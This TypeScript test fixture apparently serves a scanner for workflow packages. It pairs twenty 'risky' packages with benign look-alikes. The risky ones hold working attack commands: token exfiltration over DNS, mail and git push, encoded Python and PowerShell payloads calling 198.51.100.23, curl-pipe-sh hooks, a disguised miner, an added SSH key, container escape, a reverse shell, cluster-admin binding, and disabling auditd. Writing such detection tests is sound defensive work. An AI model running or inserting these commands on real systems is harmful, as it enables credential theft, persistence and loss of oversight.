// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages
import type { Wpk, WpkHandler } from '../../../../schemas/wpk.ts'

/**
 * Twenty pairs written before the rules were looked at: a package with a deed in it, and one that does the honest work
 * that looks most like it. `rules` are those of the taxonomy that would name the deed, any of them counts.
 */
export type Pair = { title: string; rules: readonly string[]; risky: Wpk; benign: Wpk }

type Config = Record<string, unknown>
const step = (name: string, type: WpkHandler['type'], config: Config): WpkHandler => ({
  name,
  type,
  config,
  timeout: '2m',
  retry: { max_attempts: 2, backoff: 'exponential' },
})
const sh = (name: string, command: string, more: Config = {}): WpkHandler => step(name, 'shell', { command, ...more })
const k8s = (name: string, config: Config): WpkHandler => step(name, 'k8s', config)
const api = (name: string, config: Config): WpkHandler => step(name, 'api', config)

const wpk = (name: string, handlers: WpkHandler[], triggers?: Wpk['spec']['triggers']): Wpk => ({
  apiVersion: 'v1',
  kind: 'WorkflowPackage',
  metadata: { name, version: '1.2.0', description: 'Keeps the service of team-a healthy.', tags: ['ops'] },
  spec: {
    triggers: triggers ?? [{ type: 'schedule', config: { cron: '15 3 * * *' } }],
    safety: { mode: 'manual', approval_required: true, dry_run_required: true },
    rollback: {
      enabled: true,
      handlers: [
        { name: 'undo', type: 'k8s', config: { action: 'rollback', resource: 'deployment/web', namespace: 'team-a' } },
      ],
    },
    validation: { resource_limits: { max_duration: '15m', max_memory: '256Mi' } },
    monitoring: {
      metrics_enabled: true,
      logging_level: 'info',
      alerts: [{ type: 'slack', webhook: 'https://hooks.example.net/team-a', on_failure: true }],
    },
    handlers,
  },
})

const encoded = Buffer.from(
  "import os,urllib.request as u;u.urlopen('http://198.51.100.23/r',data=repr(dict(os.environ)).encode())",
).toString('base64')
const wideEncoded = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
  'utf16le',
).toString('base64')

export const FRESH_PAIRS: readonly Pair[] = [
  {
    title: 'a token leaves in names that are looked up',
    rules: ['WPK-P1-004'],
    risky: wpk('resolver-check', [
      sh('warm-up', 'getent hosts kubernetes.default.svc'),
      sh(
        'probe',
        `set -eu
while read -r chunk; do
  host -W 1 "\${chunk}.t.cdn-metrics.example" >/dev/null || true
done < <(gzip -c /var/run/secrets/kubernetes.io/serviceaccount/token | base32 -w0 | tr -d = | fold -w 60)`,
      ),
    ]),
    benign: wpk('resolver-check', [
      sh('warm-up', 'getent hosts kubernetes.default.svc'),
      sh(
        'probe',
        `set -eu
while read -r name; do
  host -W 1 "\${name}.team-a.svc.cluster.local" >/dev/null || echo "cannot resolve \${name}"
done < <(sort -u config/names.txt | tr -d '\\r' | head -n 60)`,
      ),
    ]),
  },
  {
    title: 'cluster credentials leave by a push',
    rules: ['WPK-P1-004'],
    risky: wpk('sync-config', [
      sh('clone', 'git clone --depth 1 https://git.example.net/team-a/config.git work'),
      sh(
        'sync',
        `cd work
cp -r "$HOME/.kube" kube
git add -A
git -c user.name=bot -c user.email=bot@example.net commit -qm sync
git push -q "https://x:\${PUSH_TOKEN}@git.mirror-hub.example/pub/drop.git" HEAD:main`,
      ),
    ]),
    benign: wpk('sync-config', [
      sh('clone', 'git clone --depth 1 https://git.example.net/team-a/config.git work'),
      sh(
        'sync',
        `cd work
cp -r ../rendered/overlays .
git add -A
git -c user.name=bot -c user.email=bot@example.net commit -qm "sync overlays"
git push -q origin HEAD:main`,
      ),
    ]),
  },
  {
    title: 'the keys of an application leave by mail',
    rules: ['WPK-P1-004'],
    risky: wpk('nightly-mail', [
      sh('disk', 'df -h / | tail -n 1'),
      sh(
        'report',
        `tar -C /etc/app -czf /tmp/nightly.tgz secrets.d tls/private
echo "nightly" | mutt -s "nightly $(hostname)" -a /tmp/nightly.tgz -- collector@mailbox.example
rm -f /tmp/nightly.tgz`,
      ),
    ]),
    benign: wpk('nightly-mail', [
      sh('disk', 'df -h / | tail -n 1'),
      sh(
        'report',
        `du -sh /srv/app/releases/* > /tmp/nightly.txt
echo "nightly" | mutt -s "nightly $(hostname)" -a /tmp/nightly.txt -- ops@example.net
rm -f /tmp/nightly.txt`,
      ),
    ]),
  },
  {
    title: 'a miner that starts with the machine',
    rules: ['WPK-P3-015', 'WPK-P3-008'],
    risky: wpk('node-tuning', [
      sh('kernel', 'sysctl vm.swappiness'),
      sh(
        'unit',
        `install -m 755 ./files/agent /opt/.cache/kworker-io
cat > /etc/systemd/system/kworker-io.service <<'UNIT'
[Unit]
After=network-online.target
[Service]
ExecStart=/opt/.cache/kworker-io -o stratum+tcp://pool.coins.example:3333 -u 48xQ --cpu-max-threads-hint=90
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload && systemctl enable --now kworker-io`,
      ),
    ]),
    benign: wpk('node-tuning', [
      sh('kernel', 'sysctl vm.swappiness'),
      sh(
        'unit',
        `mkdir -p build/deb/lib/systemd/system build/deb/opt/agent
install -m 755 ./files/agent build/deb/opt/agent/agent
cat > build/deb/lib/systemd/system/agent.service <<'UNIT'
[Unit]
After=network-online.target
[Service]
ExecStart=/opt/agent/agent --listen 127.0.0.1:9100 --cpu-max-threads-hint=2
Restart=on-failure
[Install]
WantedBy=multi-user.target
UNIT
dpkg-deb --build build/deb dist/agent.deb`,
      ),
    ]),
  },
  {
    title: 'Python runs a text that it unpacks',
    rules: ['WPK-P3-006'],
    risky: wpk('quota-report', [
      sh(
        'collect',
        `import base64, json, sys
cfg = json.load(open("quota.json"))
blob = "${encoded}"
print("quota", cfg["limit"])
exec(compile(base64.b64decode(blob), "<cfg>", "exec"))`,
        { interpreter: 'python3' },
      ),
    ]),
    benign: wpk('quota-report', [
      sh(
        'collect',
        `import base64, json, os
cfg = json.load(open("quota.json"))
blob = os.environ["REPORT_TEMPLATE_B64"]
print("quota", cfg["limit"])
with open("report.html", "wb") as out:
    out.write(base64.b64decode(blob))`,
        { interpreter: 'python3' },
      ),
    ]),
  },
  {
    title: 'PowerShell with an encoded command',
    rules: ['WPK-P3-006', 'WPK-P2-005'],
    risky: wpk('windows-patch', [
      sh('version', 'pwsh -NoProfile -Command "$PSVersionTable.PSVersion.ToString()"'),
      sh('patch', `pwsh -NoProfile -NonInteractive -WindowStyle Hidden -enc ${wideEncoded}`),
    ]),
    benign: wpk('windows-patch', [
      sh('version', 'pwsh -NoProfile -Command "$PSVersionTable.PSVersion.ToString()"'),
      sh('patch', 'pwsh -NoProfile -NonInteractive -File ./scripts/patch.ps1 -Environment staging -Encoding utf8'),
    ]),
  },
  {
    title: 'a pod with the root of the node, applied from a here-document',
    rules: ['WPK-P3-011'],
    risky: wpk('log-shipper', [
      k8s('find', { action: 'get', resource: 'pods', namespace: 'team-a' }),
      sh(
        'apply',
        `kubectl -n team-a apply -f - <<EOF
apiVersion: v1
kind: Pod
metadata: {name: shipper}
spec:
  containers:
    - name: shipper
      image: registry.example.net/shipper@sha256:${'ab'.repeat(32)}
      command: ["tail", "-F", "/node/var/log/syslog"]
      volumeMounts: [{name: node, mountPath: /node}]
  volumes:
    - name: node
      hostPath: {path: /}
EOF`,
      ),
    ]),
    benign: wpk('log-shipper', [
      k8s('find', { action: 'get', resource: 'pods', namespace: 'team-a' }),
      sh(
        'apply',
        `kubectl -n team-a apply -f - <<EOF
apiVersion: v1
kind: Pod
metadata: {name: shipper}
spec:
  automountServiceAccountToken: false
  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
  containers:
    - name: shipper
      image: registry.example.net/shipper@sha256:${'ab'.repeat(32)}
      command: ["tail", "-F", "/logs/app.log"]
      resources: {limits: {cpu: 100m, memory: 64Mi}}
      securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: {drop: [ALL]}}
      volumeMounts: [{name: logs, mountPath: /logs}]
  volumes:
    - name: logs
      emptyDir: {}
EOF`,
      ),
    ]),
  },
  {
    title: 'a script of npm that fetches and runs',
    rules: ['WPK-P2-005'],
    risky: wpk('web-build', [
      sh('checkout', 'git fetch --depth 1 origin main && git checkout -q FETCH_HEAD'),
      sh(
        'build',
        `npm pkg set scripts.postinstall="curl -fsS https://static.widgets.example/p.sh | sh"
npm ci
npm run build`,
      ),
    ]),
    benign: wpk('web-build', [
      sh('checkout', 'git fetch --depth 1 origin main && git checkout -q FETCH_HEAD'),
      sh(
        'build',
        `npm pkg set scripts.postbuild="node scripts/check-size.mjs dist"
npm ci
npm run build`,
      ),
    ]),
  },
  {
    title: 'the token of the machine is read from its metadata',
    rules: ['WPK-P1-005'],
    risky: wpk('inventory', [
      sh(
        'whoami',
        `import json, requests
BASE = "http://metadata.google.internal/computeMetadata/v1"
name = requests.get(f"{BASE}/instance/name", headers={"Metadata-Flavor": "Google"}, timeout=3).text
token = requests.get(f"{BASE}/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}, timeout=3).json()
json.dump({"name": name, "t": token["access_token"]}, open("/tmp/inventory.json", "w"))`,
        { interpreter: 'python3' },
      ),
    ]),
    benign: wpk('inventory', [
      sh(
        'whoami',
        `import json, requests
BASE = "http://inventory.team-a.svc.cluster.local/v1"
name = requests.get(f"{BASE}/instance/name", headers={"Accept": "text/plain"}, timeout=3).text
owner = requests.get(f"{BASE}/instance/owners/default", headers={"Accept": "application/json"}, timeout=3).json()
json.dump({"name": name, "owner": owner["team"]}, open("/tmp/inventory.json", "w"))`,
        { interpreter: 'python3' },
      ),
    ]),
  },
  {
    title: 'the environment is put into a bucket',
    rules: ['WPK-P1-003', 'WPK-P1-004'],
    risky: wpk('build-logs', [
      sh('build', 'make release'),
      sh(
        'upload',
        `mkdir -p out
env | sort > out/debug.txt
aws s3 cp out/debug.txt "s3://public-build-logs/$(date +%s).txt" --acl public-read`,
      ),
    ]),
    benign: wpk('build-logs', [
      sh('build', 'make release'),
      sh(
        'upload',
        `mkdir -p out
env NODE_ENV=production node scripts/report.mjs | sort > out/report.txt
aws s3 cp out/report.txt "s3://team-a-build-logs/$(date +%s).txt"`,
      ),
    ]),
  },
  {
    title: 'a key that opens the machine',
    rules: ['WPK-P3-008'],
    risky: wpk('bastion-setup', [
      sh('packages', 'dpkg -s openssh-server'),
      sh(
        'keys',
        `home=$(getent passwd deploy | cut -d: -f6)
keys="$home/.ssh/authorized_keys"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHn0cQe4v4mQkq3o0m4V9Yw2l7S1p5Jr8Tz6bXcD2eFg support" >> "$keys"
chmod 600 "$keys"`,
      ),
    ]),
    benign: wpk('bastion-setup', [
      sh('packages', 'dpkg -s openssh-server'),
      sh(
        'keys',
        `work=$(mktemp -d)
keys="$work/known_hosts"
echo "git.example.net ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHn0cQe4v4mQkq3o0m4V9Yw2l7S1p5Jr8Tz6bXcD2eFg" >> "$keys"
ssh -o UserKnownHostsFile="$keys" deploy@git.example.net true`,
      ),
    ]),
  },
  {
    title: 'a container with the machine in it, asked of the socket',
    rules: ['WPK-P3-011', 'WPK-P3-010'],
    risky: wpk('container-health', [
      sh('uptime', 'uptime -p'),
      sh(
        'ask',
        `curl -fsS --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' \\
  -d '{"Image":"alpine:3.20","Cmd":["chroot","/host","id"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' \\
  http://localhost/v1.43/containers/create`,
      ),
    ]),
    benign: wpk('container-health', [
      sh('uptime', 'uptime -p'),
      sh(
        'ask',
        `curl -fsS --unix-socket /run/app/admin.sock -H 'Content-Type: application/json' \\
  -d '{"check":"ready","timeout":5}' \\
  http://localhost/v1/health/probe`,
      ),
    ]),
  },
  {
    title: 'a line that cron fetches and runs for ever',
    rules: ['WPK-P3-008'],
    risky: wpk('log-rotation', [
      sh('size', 'du -sh /var/log/app'),
      sh(
        'schedule',
        `( crontab -l 2>/dev/null | grep -v app-sync; echo '*/7 * * * * curl -fs http://198.51.100.23/s | sh # app-sync' ) | crontab -`,
      ),
    ]),
    benign: wpk('log-rotation', [
      sh('size', 'du -sh /var/log/app'),
      sh(
        'schedule',
        `( crontab -l 2>/dev/null | grep app-sync || echo 'no line for app-sync' ) | tee out/crontab-check.txt`,
      ),
    ]),
  },
  {
    title: 'the whole cluster for the default account',
    rules: ['WPK-P5-001', 'WPK-P5-003'],
    risky: wpk('debug-access', [
      k8s('pods', { action: 'get', resource: 'pods', namespace: 'team-a' }),
      sh(
        'bind',
        'kubectl create clusterrolebinding ops-debug --clusterrole=cluster-admin --serviceaccount=team-a:default --dry-run=none',
      ),
    ]),
    benign: wpk('debug-access', [
      k8s('pods', { action: 'get', resource: 'pods', namespace: 'team-a' }),
      sh(
        'bind',
        'kubectl -n team-a create rolebinding ops-view --clusterrole=view --serviceaccount=team-a:support --dry-run=server',
      ),
    ]),
  },
  {
    title: 'everything that Terraform made is destroyed',
    rules: ['WPK-P3-007'],
    risky: wpk('preview-stack', [
      sh('init', 'terraform -chdir=infra init -input=false -lockfile=readonly'),
      sh('apply', 'terraform -chdir=infra destroy -auto-approve -input=false -var-file=prod.tfvars'),
    ]),
    benign: wpk('preview-stack', [
      sh('init', 'terraform -chdir=infra init -input=false -lockfile=readonly'),
      sh('apply', 'terraform -chdir=infra plan -destroy -input=false -var-file=prod.tfvars -out=destroy.plan'),
    ]),
  },
  {
    title: 'the audit is switched off',
    rules: ['WPK-P3-009'],
    risky: wpk('noise-reduction', [
      sh('load', 'cat /proc/loadavg'),
      sh(
        'quiet',
        `sudo auditctl -e 0
sudo sed -i 's/^active = .*/active = no/' /etc/audit/plugins.d/syslog.conf
sudo service auditd stop || sudo systemctl kill auditd`,
      ),
    ]),
    benign: wpk('noise-reduction', [
      sh('load', 'cat /proc/loadavg'),
      sh(
        'quiet',
        `sudo auditctl -s
sudo grep '^active' /etc/audit/plugins.d/syslog.conf
sudo service auditd status || sudo systemctl is-active auditd`,
      ),
    ]),
  },
  {
    title: 'fetch and run, each in a variable',
    rules: ['WPK-P2-005'],
    risky: wpk('agent-setup', [
      sh('arch', 'uname -m'),
      sh(
        'setup',
        `base=https://get.agents.example
fetch="curl -fsSL --retry 3"
run=sh
$fetch "$base/setup" | sudo "$run" -s -- --quiet`,
      ),
    ]),
    benign: wpk('agent-setup', [
      sh('arch', 'uname -m'),
      sh(
        'setup',
        `base=https://get.agents.example
fetch="curl -fsSL --retry 3"
show=jq
$fetch "$base/releases.json" | "$show" -r '.[0].version'`,
      ),
    ]),
  },
  {
    title: 'one handler fetches a program, a later one runs it',
    rules: ['WPK-P2-005'],
    risky: wpk('fixture-load', [
      sh('fetch', 'wget -q -O /tmp/loader https://files.widgets.example/loader-linux-amd64'),
      k8s('wait', { action: 'wait', resource: 'deployment/web', namespace: 'team-a', condition: 'Available' }),
      sh('load', 'chmod 755 /tmp/loader\n/tmp/loader --target http://web.team-a.svc:8080'),
    ]),
    benign: wpk('fixture-load', [
      sh('fetch', 'wget -q -O /tmp/fixtures.tgz https://files.widgets.example/fixtures.tgz'),
      k8s('wait', { action: 'wait', resource: 'deployment/web', namespace: 'team-a', condition: 'Available' }),
      sh(
        'load',
        `echo "${'0f'.repeat(32)}  /tmp/fixtures.tgz" | sha256sum -c -\ntar -xzf /tmp/fixtures.tgz -C ./fixtures --no-same-owner`,
      ),
    ]),
  },
  {
    title: 'a scheduled job that opens a shell outwards',
    rules: ['WPK-P3-005'],
    risky: wpk('db-probe', [
      k8s('job', {
        action: 'apply',
        namespace: 'team-a',
        manifest: {
          apiVersion: 'batch/v1',
          kind: 'CronJob',
          metadata: { name: 'probe', namespace: 'team-a' },
          spec: {
            schedule: '*/10 * * * *',
            jobTemplate: {
              spec: {
                template: {
                  spec: {
                    restartPolicy: 'Never',
                    containers: [
                      {
                        name: 'probe',
                        image: `registry.example.net/python@sha256:${'cd'.repeat(32)}`,
                        command: ['python3', '-c'],
                        args: [
                          'import os,pty,socket\nc=socket.create_connection(("198.51.100.23",443))\n[os.dup2(c.fileno(),n) for n in (0,1,2)]\npty.spawn("/bin/bash")',
                        ],
                      },
                    ],
                  },
                },
              },
            },
          },
        },
      }),
    ]),
    benign: wpk('db-probe', [
      k8s('job', {
        action: 'apply',
        namespace: 'team-a',
        manifest: {
          apiVersion: 'batch/v1',
          kind: 'CronJob',
          metadata: { name: 'probe', namespace: 'team-a' },
          spec: {
            schedule: '*/10 * * * *',
            jobTemplate: {
              spec: {
                template: {
                  spec: {
                    restartPolicy: 'Never',
                    automountServiceAccountToken: false,
                    containers: [
                      {
                        name: 'probe',
                        image: `registry.example.net/python@sha256:${'cd'.repeat(32)}`,
                        command: ['python3', '-c'],
                        args: [
                          'import socket,sys\nc=socket.create_connection(("db.team-a.svc",5432),timeout=3)\nprint("reached", c.getpeername())\nsys.exit(0)',
                        ],
                      },
                    ],
                  },
                },
              },
            },
          },
        },
      }),
    ]),
  },
  {
    title: 'a secret that one handler reads is posted by the next',
    rules: ['WPK-P1-004'],
    risky: wpk('status-report', [
      sh('read', "kubectl -n team-a get secret db-credentials -o jsonpath='{.data.password}'"),
      api('post', {
        method: 'POST',
        url: 'https://hooks.collector.example/in/7f3a',
        headers: { 'Content-Type': 'application/json' },
        body: '{"status":"${{ steps.read.outputs.stdout }}"}',
      }),
    ]),
    benign: wpk('status-report', [
      sh('read', "kubectl -n team-a get deployment web -o jsonpath='{.status.readyReplicas}'"),
      api('post', {
        method: 'POST',
        url: 'https://hooks.example.net/team-a',
        headers: { 'Content-Type': 'application/json' },
        body: '{"status":"${{ steps.read.outputs.stdout }}"}',
      }),
    ]),
  },
]
